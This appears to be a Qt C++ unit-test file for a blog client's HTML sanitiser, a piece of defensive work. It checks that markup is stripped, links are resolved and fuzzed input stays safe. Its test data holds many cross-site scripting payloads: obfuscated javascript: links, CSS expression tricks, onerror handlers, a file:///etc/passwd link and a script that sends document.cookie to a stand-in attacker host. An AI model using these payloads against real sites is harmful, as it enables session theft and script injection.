// SPDX-License-Identifier: GPL-3.0-or-later
// The HTML sanitiser: what must go (scripts, handlers, remote images, dangerous links), what must
// stay (formatting, safe links, the space's images), and that nothing it is fed makes it crash.
#include "html/BlogPostHtml.h"
#include "html/HtmlSanitizer.h"
#include "html/HtmlTokenizer.h"

#include <QRandomGenerator>
#include <QSet>
#include <QTest>

namespace {
const QUrl kSpace(QStringLiteral("http://space.test:8080"));

QString clean(const QString &html)
{
    return html::HtmlSanitizer(kSpace).sanitize(html);
}

// Every attribute in the output is one the sanitiser may write, and every element is closed.
void checkWellFormed(const QString &output)
{
    static const QSet<QString> attributes{
        QStringLiteral("href"),   QStringLiteral("name"),        QStringLiteral("src"),         QStringLiteral("alt"),
        QStringLiteral("title"),  QStringLiteral("width"),       QStringLiteral("height"),      QStringLiteral("style"),
        QStringLiteral("align"),  QStringLiteral("dir"),         QStringLiteral("lang"),        QStringLiteral("colspan"),
        QStringLiteral("rowspan"), QStringLiteral("valign"),     QStringLiteral("bgcolor"),     QStringLiteral("border"),
        QStringLiteral("cellpadding"), QStringLiteral("cellspacing"), QStringLiteral("start"), QStringLiteral("type"),
        QStringLiteral("value"),  QStringLiteral("color"),       QStringLiteral("size"),        QStringLiteral("face")};
    static const QSet<QString> voids{QStringLiteral("br"), QStringLiteral("hr"), QStringLiteral("img")};
    QStringList open;
    for (const html::HtmlToken &token : html::HtmlTokenizer::tokenize(output)) {
        if (token.kind == html::HtmlToken::Kind::StartTag) {
            QVERIFY2(token.name != QLatin1String("script"), qPrintable(output));
            for (const auto &attribute : token.attributes)
                QVERIFY2(attributes.contains(attribute.first), qPrintable(attribute.first));
            if (!voids.contains(token.name))
                open.append(token.name);
        } else if (token.kind == html::HtmlToken::Kind::EndTag) {
            QVERIFY2(!open.isEmpty() && open.takeLast() == token.name, qPrintable(output.left(400)));
        }
    }
    QVERIFY(open.isEmpty());
}
} // namespace

class TestHtmlSanitizer : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void keepsAllowedMarkup()
    {
        QCOMPARE(clean(QStringLiteral("<p>Hello <strong>world</strong> &eacute;t&#233;</p>")),
                 QStringLiteral("<p>Hello <strong>world</strong> &eacute;t&#233;</p>"));
        QCOMPARE(clean(QStringLiteral("<H2>T</H2><ul><li>a<li>b</ul><br/><hr>")),
                 QStringLiteral("<h2>T</h2><ul><li>a<li>b</li></li></ul><br><hr>"));
        QCOMPARE(clean(QStringLiteral("<table border=1><tr><td colspan=\"2\" class=\"x\">c</td></tr></table>")),
                 QStringLiteral("<table border=\"1\"><tr><td colspan=\"2\">c</td></tr></table>"));
        QCOMPARE(clean(QStringLiteral("<section><del>old</del></section>")), QStringLiteral("<div><s>old</s></div>"));
        QCOMPARE(clean(QStringLiteral("<p style=\"color: red\">r</p>")), QStringLiteral("<p style=\"color: red\">r</p>"));
    }

    void escapesText()
    {
        QCOMPARE(clean(QStringLiteral("a < b & c > d \"q\"")), QStringLiteral("a &lt; b &amp; c &gt; d &quot;q&quot;"));
        QCOMPARE(clean(QStringLiteral("AT&T &amp; &#x41; & ;")), QStringLiteral("AT&amp;T &amp; &#x41; &amp; ;"));
    }

    void dropsScriptsWithTheirContent_data()
    {
        QTest::addColumn<QString>("input");
        QTest::newRow("script") << QStringLiteral("<p>a</p><script>alert(1)</script><p>b</p>");
        QTest::newRow("upper case") << QStringLiteral("<p>a</p><SCRIPT type=\"text/javascript\">alert(1)</SCRIPT ><p>b</p>");
        QTest::newRow("markup inside") << QStringLiteral("<p>a</p><script>if (x<y) document.write('<img src=x onerror=alert(1)>')</script><p>b</p>");
        QTest::newRow("fake end") << QStringLiteral("<p>a</p><script>var s='</scriptx>'; alert(1)</script><p>b</p>");
        QTest::newRow("style") << QStringLiteral("<p>a</p><style>body{background:url(alert(1))}</style><p>b</p>");
        QTest::newRow("iframe") << QStringLiteral("<p>a</p><iframe src=\"https://evil.example\">alert(1)</iframe><p>b</p>");
        QTest::newRow("object") << QStringLiteral("<p>a</p><object data=\"x.swf\"><param name=a value=alert(1)>alert(1)</object><p>b</p>");
        QTest::newRow("embed") << QStringLiteral("<p>a</p><embed src=\"alert(1).swf\"><p>b</p>");
        QTest::newRow("form") << QStringLiteral("<p>a</p><form action=\"https://evil.example\"><input name=alert(1)>alert(1)<button>alert(1)</button></form><p>b</p>");
        QTest::newRow("nested form") << QStringLiteral("<p>a</p><form><form>alert(1)</form>alert(1)</form><p>b</p>");
        QTest::newRow("svg") << QStringLiteral("<p>a</p><svg><script>alert(1)</script></svg><p>b</p>");
        QTest::newRow("comment") << QStringLiteral("<p>a</p><!-- <script>alert(1)</script> --><p>b</p>");
        QTest::newRow("emulator post")
            << QStringLiteral("<p>a</p><script>document.location='https://evil.example/?c='+document.cookie; alert(1)</script><p>b</p>");
    }

    void dropsScriptsWithTheirContent()
    {
        QFETCH(QString, input);
        const QString output = clean(input);
        QVERIFY2(!output.contains(QLatin1String("alert"), Qt::CaseInsensitive), qPrintable(output));
        QVERIFY2(!output.contains(QLatin1String("script"), Qt::CaseInsensitive), qPrintable(output));
        QVERIFY2(output.startsWith(QLatin1String("<p>a</p>")) && output.endsWith(QLatin1String("<p>b</p>")), qPrintable(output));
        checkWellFormed(output);
    }

    void unterminatedScriptSwallowsTheRest()
    {
        QCOMPARE(clean(QStringLiteral("<p>x</p><script>alert(1)<p>y</p>")), QStringLiteral("<p>x</p>"));
    }

    void dropsEventHandlersAndUnsafeStyles()
    {
        QCOMPARE(clean(QStringLiteral("<p onclick=\"x()\" ONMOUSEOVER='y()' onload=z()>t</p>")), QStringLiteral("<p>t</p>"));
        QCOMPARE(clean(QStringLiteral("<a href=\"#\" onclick=\"steal()\">Click to verify your account</a>")),
                 QStringLiteral("Click to verify your account"));
        for (const QString &style : {QStringLiteral("background:url(javascript:alert(1))"), QStringLiteral("width: expression(alert(1))"),
                                     QStringLiteral("background: u\\72l(x)"), QStringLiteral("background: ur/**/l(x)"),
                                     QStringLiteral("@import 'x'"), QStringLiteral("-moz-binding: x")}) {
            QVERIFY2(!html::HtmlSanitizer::isSafeStyle(style), qPrintable(style));
            QCOMPARE(clean(QStringLiteral("<span style=\"%1\">s</span>").arg(style.toHtmlEscaped())), QStringLiteral("<span>s</span>"));
        }
    }

    void neutralisesDangerousLinks_data()
    {
        QTest::addColumn<QString>("href");
        QTest::newRow("javascript") << QStringLiteral("javascript:alert(1)");
        QTest::newRow("mixed case") << QStringLiteral("JaVaScRiPt:alert(1)");
        QTest::newRow("leading space") << QStringLiteral("  javascript:alert(1)");
        QTest::newRow("tab entity") << QStringLiteral("java&#x09;script:alert(1)");
        QTest::newRow("newline") << QStringLiteral("java\nscript:alert(1)");
        QTest::newRow("colon entity") << QStringLiteral("javascript&colon;alert(1)");
        QTest::newRow("decimal entity") << QStringLiteral("&#106;avascript:alert(1)");
        QTest::newRow("no semicolon") << QStringLiteral("&#106avascript&#58alert(1)");
        QTest::newRow("vbscript") << QStringLiteral("vbscript:msgbox(1)");
        QTest::newRow("data") << QStringLiteral("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
        QTest::newRow("file") << QStringLiteral("file:///etc/passwd");
    }

    void neutralisesDangerousLinks()
    {
        QFETCH(QString, href);
        const QString output = clean(QStringLiteral("<p><a href=\"%1\">Win a prize</a></p>").arg(href));
        QCOMPARE(output, QStringLiteral("<p>Win a prize</p>"));
    }

    void keepsAndResolvesSafeLinks()
    {
        QCOMPARE(clean(QStringLiteral("<a href=\"https://example.com/a?b=1&amp;c=2\" target=_blank>x</a>")),
                 QStringLiteral("<a href=\"https://example.com/a?b=1&amp;c=2\">x</a>"));
        QCOMPARE(clean(QStringLiteral("<a href=\"/en/blog/5001\">x</a>")),
                 QStringLiteral("<a href=\"http://space.test:8080/en/blog/5001\">x</a>"));
        QCOMPARE(clean(QStringLiteral("<a href=\"mailto:hello@space.test\">x</a>")),
                 QStringLiteral("<a href=\"mailto:hello@space.test\">x</a>"));
        QCOMPARE(clean(QStringLiteral("<a href=\"#top\">x</a>")), QStringLiteral("<a href=\"#top\">x</a>"));
        QCOMPARE(clean(QStringLiteral("<a href='https://x.test/' title='a\"><script>alert(1)</script>'>x</a>")),
                 QStringLiteral("<a href=\"https://x.test/\" title=\"a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>"));
    }

    void imagesOnlyFromTheSpace()
    {
        QCOMPARE(clean(QStringLiteral("<img src=\"/en/blog/getImage/5001\" alt=\"Room\" width=\"320\" onerror=\"alert(1)\">")),
                 QStringLiteral("<img src=\"http://space.test:8080/en/blog/getImage/5001\" alt=\"Room\" width=\"320\">"));
        QCOMPARE(clean(QStringLiteral("<img src=\"http://SPACE.test:8080/a.png\">")), QStringLiteral("<img src=\"http://space.test:8080/a.png\">"));
        QCOMPARE(clean(QStringLiteral("<img/src=x/onerror=alert(1)>")), QStringLiteral("<img src=\"http://space.test:8080/x/onerror=alert(1)\">"));
        const QStringList remote{QStringLiteral("https://evil.example/x.png"), QStringLiteral("//evil.example/x.png"),
                                 QStringLiteral("http://space.test:9999/x.png"), QStringLiteral("https://space.test:8080/x.png"),
                                 QStringLiteral("http://user@space.test:8080/x.png"),
                                 QStringLiteral("data:image/png;base64,iVBORw0KGgo="), QStringLiteral("javascript:alert(1)")};
        for (const QString &src : remote) {
            QCOMPARE(clean(QStringLiteral("<p><img src=\"%1\" alt=\"Tracking &amp; pixel\"></p>").arg(src)),
                     QStringLiteral("<p>Tracking &amp; pixel</p>"));
        }
        QCOMPARE(html::HtmlSanitizer().sanitize(QStringLiteral("<img src=\"/x.png\" alt=\"a\">")), QStringLiteral("a"));
    }

    void balancesTags()
    {
        QCOMPARE(clean(QStringLiteral("<b><i>x</b>y</i>")), QStringLiteral("<b><i>x</i></b>y"));
        QCOMPARE(clean(QStringLiteral("</div></p>x<p>open")), QStringLiteral("x<p>open</p>"));
        QString deep;
        for (int i = 0; i < 5000; ++i)
            deep += QStringLiteral("<div>");
        const QString output = clean(deep + QStringLiteral("x"));
        QCOMPARE(output.count(QLatin1String("<div>")), html::HtmlSanitizer::kMaxDepth);
        checkWellFormed(output);
    }

    void malformedInputDoesNotBreakOut_data()
    {
        QTest::addColumn<QString>("input");
        QTest::newRow("unterminated attribute") << QStringLiteral("<a href=\"https://x.test/>text<script>alert(1)</script>");
        QTest::newRow("unterminated tag") << QStringLiteral("ok<img src=x onerror=alert(1) ");
        QTest::newRow("lt in tag") << QStringLiteral("<p <img src=x onerror=alert(1)>>t</p");
        QTest::newRow("bogus comment") << QStringLiteral("<! <script>alert(1)</script> -->t");
        QTest::newRow("end tag attrs") << QStringLiteral("</p onclick=alert(1)>t");
        QTest::newRow("lone lt") << QStringLiteral("< script>alert(1)<");
        QTest::newRow("slash attr") << QStringLiteral("<img/src=x/onerror=alert(1)>t");
        QTest::newRow("nul") << QString(QStringLiteral("<scr") + QChar(0) + QStringLiteral("ipt>alert(1)</script>"));
        QTest::newRow("unclosed comment") << QStringLiteral("t<!-- <p onclick=alert(1)>");
    }

    void malformedInputDoesNotBreakOut()
    {
        QFETCH(QString, input);
        const QString output = clean(input);
        checkWellFormed(output); // includes: no attribute outside the allow-list, so no handler
        QVERIFY2(!output.contains(QLatin1String("<script"), Qt::CaseInsensitive), qPrintable(output));
    }

    void fuzz()
    {
        // Random bytes and random soups of tricky fragments: no crash, no hang, always well formed,
        // and sanitising the output again changes nothing.
        const QStringList pieces{QStringLiteral("<"), QStringLiteral(">"), QStringLiteral("</"), QStringLiteral("/>"),
                                 QStringLiteral("<!--"), QStringLiteral("-->"), QStringLiteral("<script>"), QStringLiteral("</script>"),
                                 QStringLiteral("<a href=\""), QStringLiteral("javascript:"), QStringLiteral("\""), QStringLiteral("'"),
                                 QStringLiteral("="), QStringLiteral(" onclick="), QStringLiteral("<img src="), QStringLiteral("&#"),
                                 QStringLiteral("&amp;"), QStringLiteral("<p>"), QStringLiteral("</p>"), QStringLiteral("<b>"),
                                 QStringLiteral("<style>"), QStringLiteral("text "), QStringLiteral("<table><tr><td>"),
                                 QStringLiteral("http://space.test:8080/i.png"), QStringLiteral("<!"), QStringLiteral("<?")};
        QRandomGenerator rng(20240601);
        for (int round = 0; round < 3000; ++round) {
            QString input;
            if (round % 2 == 0) {
                QByteArray bytes(int(rng.bounded(200)), Qt::Uninitialized);
                for (char &b : bytes)
                    b = char(rng.bounded(256));
                input = QString::fromLatin1(bytes);
            } else {
                const int count = int(rng.bounded(40));
                for (int i = 0; i < count; ++i)
                    input += pieces.at(int(rng.bounded(int(pieces.size()))));
            }
            const QString once = clean(input);
            checkWellFormed(once);
            if (QTest::currentTestFailed())
                QFAIL(qPrintable(QStringLiteral("input: ") + input));
            QCOMPARE(clean(once), once);
        }
    }

    void postDocumentEscapesComments()
    {
        domain::BlogPost post;
        post.id = 7;
        post.title = QStringLiteral("Tom & Jerry <3");
        post.postedByFullName = QStringLiteral("Ana");
        post.fullTextHtml = QStringLiteral("<p>Body</p><script>alert(1)</script>");
        post.allowComments = true;
        domain::BlogComment comment;
        comment.postedByFullName = QStringLiteral("<b>Eve</b>");
        comment.text = QStringLiteral("<img src=x onerror=alert(1)>\nsecond line");
        post.comments = {comment};
        const QString document = html::BlogPostHtml::render(post, html::HtmlSanitizer(kSpace));
        QVERIFY(document.contains(QLatin1String("<h1>Tom &amp; Jerry &lt;3</h1>")));
        QVERIFY(document.contains(QLatin1String("<p>Body</p>")));
        QVERIFY(!document.contains(QLatin1String("alert(1)</script>")));
        QVERIFY(document.contains(QLatin1String("&lt;b&gt;Eve&lt;/b&gt;")));
        QVERIFY(document.contains(QLatin1String("&lt;img src=x onerror=alert(1)&gt;<br>second line")));
        QVERIFY(document.contains(QLatin1String("Comments (1)")));
        const QString loading = html::BlogPostHtml::render(post, html::HtmlSanitizer(kSpace), QStringLiteral("Loading"));
        QVERIFY(!loading.contains(QLatin1String("Comments")));
    }
};

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "tst_htmlsanitizer.moc"
